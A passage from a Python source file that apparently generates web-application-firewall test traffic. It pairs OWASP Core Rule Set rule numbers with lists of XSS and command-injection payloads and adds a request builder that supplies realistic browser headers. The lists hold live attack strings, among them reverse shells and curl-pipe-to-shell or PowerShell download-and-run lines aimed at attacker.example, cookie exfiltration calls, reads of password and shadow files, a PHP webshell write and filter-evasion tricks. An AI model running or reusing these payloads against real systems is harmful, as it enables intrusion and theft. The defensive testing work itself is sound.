        "<StYlE>@IMPORT url(//attacker.example/b.css);</sTyLe>",
        "<style>body{background&#x3A;url(//attacker.example/p.png)}</style>",
        "<style>div{width:expression(alert(document.cookie))}</style>",
        "<style>@import/**/\"//attacker.example/c.css\";</style>",
    ]),
    # 941200 IE XSS Filters: vmlframe
    ("xss", "ie-vmlframe", [
        "<v:vmlframe src=\"https://attacker.example/x.vml#xss\">",
        "<vmlframe src=//attacker.example/a.vml>",
        "<v:vmlframe src = \"foo.vml#xss\"></v:vmlframe>",
        "<xml:namespace prefix=\"v\"><v:vmlframe src=\"data:text/html,<script>alert(1)</script>\">",
        "<V:VMLFRAME SRC=\"//attacker.example/x.vml\">",
        "<v:vmlframe/src=//attacker.example/x>",
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"x.vml#a\">",
        "<v:rect><v:vmlframe src=\"#x\"></v:rect>",
        "<v:vmlframe +src=\"x.vml\">",
        "<vmlframe\tsrc=x.vml>",
    ]),
    # 941210 IE XSS Filters: obfuscated javascript:
    ("xss", "ie-obfuscated-javascript", [
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"javas&#99;ript:alert(1)\">x</a>",
        "j&#0000097;vascript:alert(1)",
        "<iframe src=\"&#x6a;avascript:alert(1)\">",
        "java&#13;script:alert(1)",
        "ja&#x0A;vascript:alert(1)",
        "jav&#x61script:alert(1)",
        "&#74;&#65;&#86;&#65;script:alert(1)",
        "java\\u0073cript:alert(1)",
    ]),
    # 941220 IE XSS Filters: obfuscated vbscript:
    ("xss", "ie-obfuscated-vbscript", [
        "vbscript:msgbox(1)",
        "<a href=\"vbscript:MsgBox(&quot;XSS&quot;)\">x</a>",
        "&#118;&#98;&#115;&#99;&#114;&#105;&#112;&#116;:msgbox 1",
        "vb&#x73;cript:alert(1)",
        "VBSCRIPT:Execute(\"msgbox 1\")",
        "<img src=\"vbscript:msgbox('x')\">",
        "v&#98;script:msgbox(1)",
        "vbs&#x09;cript:msgbox 1",
        "&#x76;&#x62;script:msgbox(1)",
        "<iframe src=vbscript:msgbox(document.cookie)>",
    ]),
    # 941230 IE XSS Filters: embed
    ("xss", "ie-embed", [
        "<embed src=\"https://attacker.example/x.swf\">",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
        "<embed type=\"application/x-shockwave-flash\" src=x.swf allowscriptaccess=always>",
        "<embed/src=//attacker.example/a.swf>",
        "<embed src=javascript:alert(1)>",
        "<EmBeD sRc=\"x.svg\">",
        "<embed\tsrc=\"//attacker.example/p.pdf\">",
        "<embed width=1 height=1 src=data:text/html,<script>alert(1)</script>>",
        "<embed type=\"text/html\" src=\"//attacker.example\">",
        "<embed +src=x.swf>",
    ]),
    # 941240 IE XSS Filters: import implementation
    ("xss", "ie-import-implementation", [
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<import implementation=\"//attacker.example/x.htc\">",
        "<?IMPORT namespace=\"x\" implementation=\"https://attacker.example/b.htc\">",
        "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\">"
        "<t:set attributeName=\"innerHTML\" to=\"XSS<script defer>alert(1)</script>\">",
        "<import/implementation=//attacker.example/c.htc>",
        "<?import implementation = \"#default#VML\">",
        "<Import Implementation=\"x.htc\">",
        "<?import namespace=\"v\" implementation=\"#default#vml\" ?>",
        "<import\timplementation=\"y.htc\">",
        "<?import namespace=x   implementation  =  'z.htc'>",
    ]),
    # 941250 IE XSS Filters: meta http-equiv
    ("xss", "ie-meta-http-equiv", [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"SESSID=attacker\">",
        "<meta http-equiv=\"content-type\" content=\"text/html;charset=UTF-7\">",
        "<meta http-equiv=refresh content=\"0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<meta http-equiv=\"&#114;efresh\" content=\"0;url=//attacker.example\">",
        "<meta/http-equiv=refresh content=0;url=//attacker.example>",
        "<MeTa HtTp-EqUiV=\"Content-Security-Policy\" content=\"script-src *\">",
        "<meta http-equiv = 'refresh' content='1'>",
        "<meta name=\"x\" http-equiv=\"set-cookie\" content=\"a=b\">",
        "<meta http-equiv=\"&#x63;ontent-type\" content=\"text/html; charset=utf-7\">",
    ]),
    # 941260 IE XSS Filters: meta charset
    ("xss", "ie-meta-charset", [
        "<meta charset=\"UTF-7\">",
        "<META CHARSET=x-imap4-modified-utf7>",
        "<meta charset=\"ISO-2022-JP\">",
        "<meta content=\"text/html\" charset=\"utf-7\">",
        "<meta/charset=utf-7>",
        "<meta charset = \"shift_jis\">",
        "<MeTa ChArSeT=\"UTF-16\">",
        "<head><meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<meta\tcharset=\"utf-7\">",
        "<meta name=a charset=windows-1252>",
    ]),
    # 941270 IE XSS Filters: link href
    ("xss", "ie-link-href", [
        "<link rel=\"stylesheet\" href=\"https://attacker.example/x.css\">",
        "<LINK REL=\"import\" HREF=\"//attacker.example/x.html\">",
        "<link href=\"javascript:alert(1)\" rel=stylesheet>",
        "<link/rel=prefetch/href=//attacker.example>",
        "<link rel=preload as=script href=//attacker.example/a.js>",
        "<LiNk HrEf=\"data:text/css,body{}\">",
        "<link rel=icon href = \"//attacker.example/f.ico\">",
        "<link\thref=\"//attacker.example/s.css\">",
        "<link rel=\"dns-prefetch\" href=\"//x.attacker.example\">",
        "<link rel=manifest href=//attacker.example/m.json>",
    ]),
    # 941280 IE XSS Filters: base href
    ("xss", "ie-base-href", [
        "<base href=\"https://attacker.example/\">",
        "<BASE HREF=\"javascript:alert(1);//\">",
        "<base/href=//attacker.example/>",
        "<base target=_top href=//attacker.example>",
        "<BaSe HrEf = \"//attacker.example\">",
        "<base\thref=\"https://attacker.example/a/\">",
        "</title><base href=//attacker.example/>",
        "<base href=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<base href=  '//attacker.example'>",
        "\"><base href=\"http://203.0.113.9/\">",
    ]),
    # 941290 IE XSS Filters: applet
    ("xss", "ie-applet", [
        "<applet code=\"Evil.class\" codebase=\"https://attacker.example/\">",
        "<APPLET CODE=\"x.class\">",
        "<applet/code=x.class>",
        "<applet>",
        "<ApPlEt archive=\"e.jar\" code=\"M\">",
        "<applet\tcode=x>",
        "\"><applet code=javascript:alert(1)>",
        "<applet code=\"Exploit\" archive=\"//attacker.example/e.jar\" width=1 height=1></applet>",
        "<applet+code=x>",
        "<applet object=\"x.ser\">",
    ]),
    # 941300 IE XSS Filters: object
    ("xss", "ie-object", [
        "<object data=\"https://attacker.example/x.swf\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//attacker.example/s.sct\">",
        "<object classid=\"clsid:ae24fdae-03c6-11d1-8b76-0080c744f389\"><param name=url value=javascript:alert(1)>"
        "</object>",
        "<object codetype=\"application/java\" code=\"E.class\">",
        "<object/data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        "<ObJeCt DaTa=\"javascript:alert(1)\">",
        "<object type = \"application/x-shockwave-flash\" data=\"x.swf\">",
        "<object\tdata=//attacker.example>",
        "<object code=\"x.class\">",
        "<object width=1 data=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    ]),
    # 941310 US-ASCII Malformed Encoding XSS Filter
    ("xss", "us-ascii-malformed", [
        "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "<script\u00bealert(1)\u00bc/script\u00be",
        "\u00bcsvg onload=alert(1)>",
        "\u00bciframe src=javascript:alert(1)\u00be",
        "\u00bcbody onload=alert(1)\u00be",
        "\u00bcSCRIPT\u00bedocument.location='//attacker.example'\u00bc/SCRIPT\u00be",
        "x\u00bca href=javascript:alert(1)\u00bey",
        "<img src=x onerror=alert(1)\u00be",
        "\u00bcscript src=//attacker.example/x.js\u00be\u00bc/script\u00be",
    ]),
    # 941350 UTF-7 Encoding IE XSS
    ("xss", "utf7", [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ADw-SCRIPT+AD4-alert('XSS')+ADsAPA-/SCRIPT+AD4-",
        "+ADwAcwBjAHIAaQBwAHQAPgBhAGwAZQByAHQAKAAxACkAPAAvAHMAYwByAGkAcAB0AD4",
        "+ADw-svg onload+AD0-alert(1)+AD4-",
        "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
        "+ADw-body onload+AD0-alert(1)+AD4-",
        "x+ADw-a href+AD0AIg-javascript:alert(1)+ACI-+AD4-",
        "+ADw-/title+AD4APA-script+AD4-alert(1)+ADw-/script+AD4-",
    ]),
    # 941360 JSFuck / Hieroglyphy obfuscation
    ("xss", "jsfuck", [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+!+[]]",
        "(!![]+[])[+[]]+(!![]+[])[+!+[]]",
        "+[![]]",
        "[][[]]+[]",
        "(+{}+[])[+!![]]",
        "[+!+[]]+[+[]]",
        "(![]+[])[!+[]+!+[]+!+[]]",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$]}",
        "[][(![]+[])[!+[]+!![]+!![]]+([]+{})[+!![]]]",
        "(!![]+[])[!+[]+!+[]+!+[]]+([][[]]+[])[+!+[]]",
    ]),
    # 941370 JavaScript global variable found
    ("xss", "js-global-variable", [
        "window[\"alert\"](1)",
        "self['al'+'ert'](document.domain)",
        "top[\"eval\"](\"alert(1)\")",
        "parent['location']='//attacker.example'",
        "frames[\"alert\"](1)",
        "globalThis[\"ev\"+\"al\"](\"1\")",
        "window /*x*/ [\"alert\"](1)",
        "document[\"cookie\"]",
        "window[atob('YWxlcnQ=')](1)",
        "self [ \"alert\" ] ( 1 )",
        "top[/al/.source+/ert/.source](1)",
        "window[String.fromCharCode(97,108,101,114,116)](1)",
    ]),
    # 941101 XSS Attack Detected via libinjection (PL2: path and Referer)
    ("xss", "libinjection-path-referer", [
        "<script>alert(document.domain)</script>",
        "<img src=1 onerror=prompt(1)>",
        "\"><svg/onload=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "'><body onpageshow=alert(1)>",
        "<a href=javascript:alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<math><mtext><img src onerror=alert(1)>",
        "<video src=x onerror=alert(1)>",
        "<select onfocus=alert(1) autofocus>",
    ]),
    # 941150 Category 5: Disallowed HTML Attributes
    ("xss", "disallowed-attributes", [
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<span datasrc=\"#x\" datafld=\"a\" dataformatas=\"html\">",
        "<div style=\"width:expression(alert(1))\">",
        "x\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)",
        "<a href = \"//attacker.example\">",
        "<img src = \"//attacker.example/p.gif\">",
        "<bgsound src=\"javascript:alert(1)\">",
        "' STYLE='background:url(//attacker.example/t)",
        "<xml src=\"//attacker.example/x.xml\" id=i>",
    ]),
    # 941320 Possible XSS Attack Detected - HTML Tag Handler
    ("xss", "html-tag-handler", [
        "<div id=x>injected</div>",
        "<a href=//attacker.example>click here</a>",
        "<marquee>pwned</marquee>",
        "<h1>Site moved, log in at attacker.example</h1>",
        "<img src=//attacker.example/pixel.gif>",
        "<input type=hidden name=role value=admin>",
        "<textarea>",
        "<table><tr><td>x</td></tr></table>",
        "<button formaction=//attacker.example>go</button>",
        "<blink>x</blink>",
        "<isindex>",
        "<keygen autofocus onfocus=alert(1)>",
    ]),
    # 941330 IE XSS Filters: string break then location / name / onerror / valueOf assignment
    ("xss", "ie-string-break-assign", [
        "\";location='javascript:alert(1)';\"",
        "'-location='//attacker.example'-'",
        "\";name='alert(1)';eval(name);\"",
        "';onerror=alert;throw 1;'",
        "\"};valueOf=alert;x={\"",
        "'; location = \"//attacker.example\"; //",
        "\"|location='//attacker.example'|\"",
        "'\\u006Cocation='//attacker.example'",
        "\";onerror=eval;throw'=alert\\x281\\x29';//",
        "\"in location=\"javascript:alert(1)",
    ]),
    # 941340 IE XSS Filters: string break then property assignment
    ("xss", "ie-string-break-property", [
        "\";document.location.href=\"//attacker.example\";//",
        "'+document.cookie.x='1",
        "\"};window.location.href='//attacker.example';{\"",
        "' ; top.location.hash='x'//",
        "\"-window.name='x'-\"",
        "'|self.location='//attacker.example'|'",
        "\" in document.body.innerHTML=\"<b>x</b>",
        "');x.y.z=1;//",
        "\"(document.domain.length=0)\"",
        "'}};Object.prototype.src='//attacker.example/x.js';//",
    ]),
    # 941380 AngularJS client side template injection
    ("xss", "angular-csti", [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "{{7*7}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "{{ constructor.constructor ( \"alert(1)\" ) ( ) }}",
        "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>",
        "{{$new.constructor('return document.cookie')()}}",
        "<input ng-focus=$event.view.alert(1) autofocus>",
    ]),
    # CRS 4: Javascript method detected
    ("xss", "js-method", [
        "alert.call(null,1)",
        "[1].find(alert)",
        "alert.apply(null,[document.domain])",
        "Function('alert(1)')()",
        "eval(atob('YWxlcnQoMSk='))",
        "setTimeout('alert(1)',0)",
        "String.fromCharCode(97,108,101,114,116,40,49,41)",
        "Reflect.apply(alert,window,[1])",
        "import('//attacker.example/m.js')",
        "fetch('//attacker.example/?'+document.cookie)",
        "navigator.sendBeacon('//attacker.example',localStorage.token)",
    ]),
    # CRS 4: XSS JavaScript function without parentheses
    ("xss", "js-no-parens", [
        "alert`1`",
        "onerror=alert;throw 1",
        "throw onerror=alert,1",
        "<svg onload=alert&#40;1&#41;>",
        "setTimeout`alert\\x281\\x29`",
        "location='javascript:alert\\x281\\x29'",
        "onerror=eval;throw'=alert\\x281\\x29'",
        "window.onerror=alert;throw document.domain",
        "{onerror=alert}throw 1337",
        "x=alert;x`1`",
        "eval.call`${'alert\\x281\\x29'}`",
    ]),
    # 932100 Unix Command Injection
    ("rce", "unix-cmd-injection", [
        "; ls -la",
        "| cat /etc/passwd",
        "&& id",
        "|| uname -a",
        "`whoami`",
        "$(id)",
        ";wget http://attacker.example/x -O /tmp/x",
        "| nc attacker.example 4444 -e /bin/sh",
        ";curl attacker.example/s.sh|sh",
        "x\nid",
        "& ping -c 3 attacker.example &",
        ";ps aux",
    ]),
    # 932105 Unix Command Injection (more commands)
    ("rce", "unix-cmd-injection-2", [
        "; chmod 777 /tmp/x",
        "| python -c 'import os;os.system(\"id\")'",
        "&& perl -e 'exec \"/bin/sh\"'",
        "; ruby -rsocket -e 'c=TCPSocket.new(\"attacker.example\",4444)'",
        "| php -r 'system(\"id\");'",
        "; nslookup attacker.example",
        "$(dig +short attacker.example)",
        "; crontab -l",
        "|| base64 /etc/shadow",
        "; find / -perm -4000",
        "; tar cf - /home | nc attacker.example 9",
        ";sudo -l",
    ]),
    # 932110 Windows Command Injection
    ("rce", "windows-cmd-injection", [
        "& dir c:\\",
        "| type C:\\Windows\\win.ini",
        "&& net user",
        "; ipconfig /all",
        "| whoami /priv",
        "& cmd /c calc.exe",
        "&& net localgroup administrators eve /add",
        "| tasklist /v",
        "& systeminfo",
        "|| certutil -urlcache -split -f http://attacker.example/x.exe x.exe",
        "& ping -n 3 attacker.example",
    ]),
    # 932115 Windows Command Injection (more commands)
    ("rce", "windows-cmd-injection-2", [
        "& reg query HKLM\\Software",
        "| schtasks /create /tn x /tr calc.exe /sc once /st 00:00",
        "& wmic process call create calc.exe",
        "&& bitsadmin /transfer j http://attacker.example/x.exe %TEMP%\\x.exe",
        "| netstat -ano",
        "& sc query",
        "& mshta http://attacker.example/x.hta",
        "| rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"",
        "&& regsvr32 /s /u /i:http://attacker.example/x.sct scrobj.dll",
        "& attrib +h x.txt",
        "| findstr /si pwd *.xml",
        "& net view",
    ]),
    # 932120 Windows PowerShell Command Found
    ("rce", "powershell", [
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"",
        "| powershell.exe -enc SQBFAFgAIAAoAGkAdwByACkA",
        "; Invoke-Expression (Invoke-WebRequest http://attacker.example/a).Content",
        "& pwsh -c Get-Process",
        "Get-ChildItem C:\\Users -Recurse",
        "Start-Process calc.exe",
        "IEX(New-Object Net.WebClient).DownloadString('//attacker.example/p.ps1')",
        "; Get-Content C:\\Windows\\win.ini",
        "Invoke-WebRequest -Uri http://attacker.example -Method POST -Body $env:USERNAME",
        "p^o^w^e^r^s^h^e^l^l -c whoami",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
    ]),
    # 932130 Unix Shell Expression Found
    ("rce", "unix-shell-expression", [
        "$(cat /etc/passwd)",
        "`id`",
        "${IFS}",
        "$(sleep 5)",
        "<(curl attacker.example)",
        ">(nc attacker.example 80)",
        "$((1+1))",
        "${PATH:0:1}bin${PATH:0:1}sh",
        "$(echo${IFS}aWQ=|base64${IFS}-d)",
        "a`uname`b",
        "${HOME}",
        "$( whoami )",
    ]),
    # 932140 Windows FOR/IF Command Found
    ("rce", "windows-for-if", [
        "for /f \"delims=\" %i in ('whoami') do echo %i",
        "& for /l %x in (1,1,1000) do ping -n 1 127.0.0.1",
        "if exist C:\\boot.ini type C:\\boot.ini",
        "| FOR /F %a IN ('dir /b') DO @echo %a",
        "& if defined USERNAME echo %USERNAME%",
        "for /r C:\\ %f in (*.config) do type %f",
        "&&for /d %d in (C:\\Users\\*) do dir %d",
        "& if not exist x.txt (echo a > x.txt)",
        "|FoR /F \"tokens=*\" %%a in ('net user') do echo %%a",
        "& IF \"%OS%\"==\"Windows_NT\" ver",
    ]),
    # 932150 Direct Unix Command Execution
    ("rce", "direct-unix-command", [
        "cat /etc/passwd",
        "id",
        "uname -a",
        "/bin/sh -c id",
        "bash -i >& /dev/tcp/attacker.example/4444 0>&1",
        "nc -e /bin/sh attacker.example 4444",
        "wget http://attacker.example/x.sh",
        "curl -d @/etc/passwd attacker.example",
        "python3 -c \"import pty;pty.spawn('/bin/bash')\"",
        "/usr/bin/whoami",
        "ls -la /var/www",
        "sh -c 'id'",
    ]),
    # 932160 Unix Shell Code Found
    ("rce", "unix-shell-code", [
        "/bin/bash",
        "/etc/shadow",
        "/bin/sh -i",
        "/dev/tcp/203.0.113.5/4444",
        "/usr/bin/id",
        "~/.bash_history",
        "/etc/passwd",
        "/usr/local/bin/python -c 1",
        "/bin//sh",
        "/b?n/c?t /e?c/p?sswd",
        "/usr/sbin/sendmail -t",
        "/bin/busybox telnetd",
    ]),
    # 932170 Shellshock (CVE-2014-6271), headers
    ("rce", "shellshock-headers", [
        "() { :; }; /bin/bash -c 'id'",
        "() { :;}; echo; /bin/cat /etc/passwd",
        "() { _; } >_[$($())] { id; }",
        "() { :; }; /usr/bin/wget http://attacker.example/x -O /tmp/x",
        "() {:;}; ping -c 3 attacker.example",
        "(){ :; }; sleep 5",
        "() { x; }; echo vulnerable",
        "()  {  :;  };  /bin/id",
        "() { :;}; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "() { ignored; }; /usr/bin/curl attacker.example",
    ]),
    # 932171 Shellshock (CVE-2014-6271), arguments
    ("rce", "shellshock-args", [
        "() { :; }; echo; id",
        "() { :;}; /bin/ls",
        "() { a;}; cat /etc/hostname",
        "() { :; }; nc attacker.example 9 -e /bin/sh",
        "() { 0; }; uname",
        "() { :; } ; curl -s attacker.example | bash",
        "() { :;};echo;/usr/bin/id",
        "() { x;};/bin/sleep 3",
        "() {  :  ;  } ;  whoami",
        "() { :; }; touch /tmp/pwn",
    ]),
    # 932180 Restricted File Upload Attempt
    ("rce", "restricted-upload", [
        ".htaccess",
        ".htpasswd",
        "web.config",
        "wp-config.php",
        ".env",
        ".user.ini",
        "settings.local.php",
        "config.yml",
        "../../.htaccess",
        ".HTACCESS",
        "parameters.yml",
        "uploads/.htdigest",
    ]),
    # 932200 RCE Bypass Technique
    ("rce", "bypass-technique", [
        "c''at /etc/passwd",
        "c\\at /etc/pa\\sswd",
        "/???/c?t /???/p??swd",
        "ca$@t /etc/passwd",
        "c\"a\"t${IFS}/etc/passwd",
        "w$()hoami",
        "who$9ami",
        "{cat,/etc/passwd}",
        "/bin/c[a]t /etc/passwd",
        "$'\\x63\\x61\\x74' /etc/passwd",
        "cat$IFS$9/etc/passwd",
        "/usr/bin/w*i",
    ]),
    # CRS 4: Unix Command Injection (command without evasion)
    ("rce", "unix-no-evasion", [
        ";id;",
        "|id",
        "&id&",
        ";whoami",
        "|uname",
        "&&ifconfig",
        ";env",
        "||hostname",
        ";pwd",
        "|w",
    ]),
    # CRS 4: Unix Command Injection evasion attempt detected
    ("rce", "unix-evasion", [
        ";c'a't /etc/passwd",
        "|w\\h\\o\\a\\m\\i",
        ";i\"\"d",
        "&&/b??/i?",
        ";$(printf '\\151\\144')",
        ";{id,}",
        "|ca${x}t /etc/hosts",
        ";who$()ami",
        ";c$(echo a)t /etc/passwd",
        ";X=$'cat\\x20/etc/passwd'&&$X",
        ";l\\s -la",
    ]),
    # CRS 4: Unix shell alias invocation
    ("rce", "unix-alias", [
        ";alias x='cat /etc/passwd';x",
        "| alias ls='rm -rf ~'",
        "&& alias",
        ";alias -p",
        ";unalias -a",
        "$(alias x=id; x)",
        ";\\alias l=id;l",
        ";alias    s=\"sh\"",
        ";builtin alias y=whoami",
        ";command alias z=id",
    ]),
    # CRS 4: Unix shell history invocation
    ("rce", "unix-history", [
        ";history",
        ";!!",
        ";!-2",
        "|history -c",
        ";fc -l",
        ";!ls",
        ";cat ~/.bash_history",
        ";!?passwd?",
        ";fc -s",
        ";history | grep pass",
    ]),
    # CRS 4: Unix command injection with pipes / 2-3 letter commands
    ("rce", "unix-pipe-short", [
        "|id",
        "|ls",
        "|ps",
        "|df -h",
        "|nc attacker.example 80",
        "|sh",
        "|vi /etc/passwd",
        "|dd if=/etc/shadow",
        "|od -c /etc/passwd",
        "|xxd /etc/passwd",
        "|awk 'BEGIN{system(\"id\")}'",
        "| tee /tmp/x",
    ]),
    # CRS 4: SQLite System Command Execution
    ("rce", "sqlite-system", [
        ".system id",
        ".shell cat /etc/passwd",
        "'; ATTACH DATABASE '/var/www/x.php' AS x; CREATE TABLE x.t (d text); "
        "INSERT INTO x.t VALUES ('<?php system($_GET[1]); ?>');--",
        "1 AND load_extension('/tmp/evil.so')",
        ".import /etc/passwd t",
        ".output /var/www/html/s.php",
        ".load /tmp/x.so",
        "select writefile('/tmp/x','y')",
        "select edit('x','vi')",
        ".once /tmp/out.txt",
    ]),
    # CRS 4: SMTP / IMAP / POP3 Command Execution
    ("rce", "mail-protocol", [
        "\r\nMAIL FROM:<eve@attacker.example>\r\nRCPT TO:<all@example.com>\r\nDATA",
        "user@example.com\r\nRCPT TO:<victim@example.org>",
        "INBOX\r\nA1 LOGOUT",
        "x\r\nA01 FETCH 1:* (BODY[])",
        "a\r\nDELE 1",
        "\r\nRETR 1",
        "x\nUSER admin\nPASS guest",
        "INBOX\" CAPABILITY\r\nA2 LIST \"\" *",
        "\r\nQUIT\r\nHELO attacker.example",
        "eve@example.com>\r\nDATA\r\nSubject: x\r\n.\r\n",
        "x\r\nVRFY root",
        "x\r\nA3 SELECT INBOX",
    ]),
    # CRS 4: Windows Command Injection (cmd, powershell with evasions)
    ("rce", "windows-cmd-evasion", [
        "& c^m^d /c wh^oami",
        "| p\"ow\"ers\"hell\" -c whoami",
        "& %COMSPEC% /c dir",
        "& c:\\windows\\system32\\cmd.exe /c ver",
        "| cmd.exe /v:on /c \"set x=who&&set y=ami&&call %x%%y%\"",
        "& %ProgramData:~0,1%%ProgramData:~9,2% /c whoami",
        "| powershell -e JABjAD0AIgBpAGQAIgA=",
        "& ((\"cmd\")) /c echo 1",
        "&& ^n^e^t u^s^e^r",
        "| PoWeRsHeLl.ExE -NoP -W Hidden -C iex",
        "& cmd,/c,dir",
    ]),
    # CRS 4: Unix Shell Code Found in REQUEST_HEADERS
    ("rce", "shell-code-headers", [
        "/bin/bash -c 'id'",
        "$(/usr/bin/id)",
        "`/bin/cat /etc/passwd`",
        "/bin/sh -i >& /dev/tcp/203.0.113.5/443 0>&1",
        "curl http://attacker.example/s | /bin/bash",
        "Mozilla/5.0 $(wget -qO- attacker.example/x|sh)",
        "/usr/bin/python3 -c 'print(1)'",
        ";/bin/busybox wget http://attacker.example/m",
        "echo ZWNobyBwd25lZA==|base64 -d|/bin/sh",
        "/bin/nc -lvp 4444 -e /bin/sh",
    ]),
    # CRS 4: Direct Unix Command Execution (absolute paths, wildcards)
    ("rce", "unix-direct-abs-path", [
        "/bin/cat /etc/passwd",
        "/usr/bin/id",
        "/bin/ls -la /",
        "/???/?s -la",
        "/usr/bin/w?o?m?",
        "/bin/n? -e /bin/sh attacker.example 1",
        "/usr/bin/curl attacker.example",
        "/sbin/ifconfig",
        "/b*/ca* /e*/pa*",
        "/usr//bin/uname -a",
        "/bin/./sh -c id",
    ]),
]

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.2592.87",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9,en-US;q=0.8", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.7",
         "es-ES,es;q=0.9,en;q=0.8", "en-US,en;q=0.5"]
CONSENTS = ["cookieconsent_status=dismiss", "cookie_consent=accepted", "consent=necessary%2Canalytics",
            "OptanonAlertBoxClosed=2024-06-18T09:12:44.512Z"]
REFERER_PATHS = ["/", "/users", "/admin/users", "/admin/users/search", "/settings", "/dashboard", "/users/42",
                 "/reports?range=30d"]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "location", "company", "nickname"]
SETTINGS_FIELDS = ["display_name", "status_text", "signature", "location"]
LEAD_INS = ["lookup user ", "ticket title: ", "hey bot, ", "search for ", "can you find ", "note: "]
PATH_SAFE = "!$&'()*+,;=:@-._~[]|"
BASE_PLACES = ["query", "form", "json", "path", "header", "extra"]
FILL_PLACES = ["json", "query", "form", "header", "path", "json"]


class Builder:
    """The requests around payloads and innocent values: browser headers, one seeded random source."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.json_n = 0
        self.header_n = 0
        self.path_n = 0
        self.extra_n = 0
        self.slack_n = 0

    def token(self, n: int = 24) -> str:
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")
                       for _ in range(n))

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def cookie(self) -> str:
        return f"session={self.token(32)}; {self.rng.choice(CONSENTS)}"

    def browser(self, mode: str, extra_cookie: str = "") -> dict[str, str]:
        """A current browser's headers: mode "cors" (the app's fetch), "navigate" (a form post)."""
        h = {"User-Agent": self.rng.choice(BROWSER_UAS)}
        if mode == "cors":
            h["Accept"] = "application/json, text/plain, */*"
        else:
            h["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
        h["Accept-Language"] = self.rng.choice(LANGS)
        h["Accept-Encoding"] = "gzip, deflate, br, zstd"
        h["Referer"] = "https://app.example.com" + self.rng.choice(REFERER_PATHS)
        h["Sec-Fetch-Dest"] = "empty" if mode == "cors" else "document"
        h["Sec-Fetch-Mode"] = mode
        h["Sec-Fetch-Site"] = "same-site"
        if mode == "navigate":
            h["Sec-Fetch-User"] = "?1"
        h["Cookie"] = self.cookie() + (f"; {extra_cookie}" if extra_cookie else "")
        return h

    def query(self, value: str) -> dict[str, Any]:
        params = [("q", value), ("page", str(self.rng.randint(1, 9))),
                  ("per_page", self.rng.choice(["20", "50", "100"]))]
        self.rng.shuffle(params)
        return {"method": "GET", "uri": "/api/users?" + urllib.parse.urlencode(params), "body": "",
                "headers": self.browser("cors")}

    def form(self, value: str, uri: str = "/admin/users/search", field: str = "q") -> dict[str, Any]:
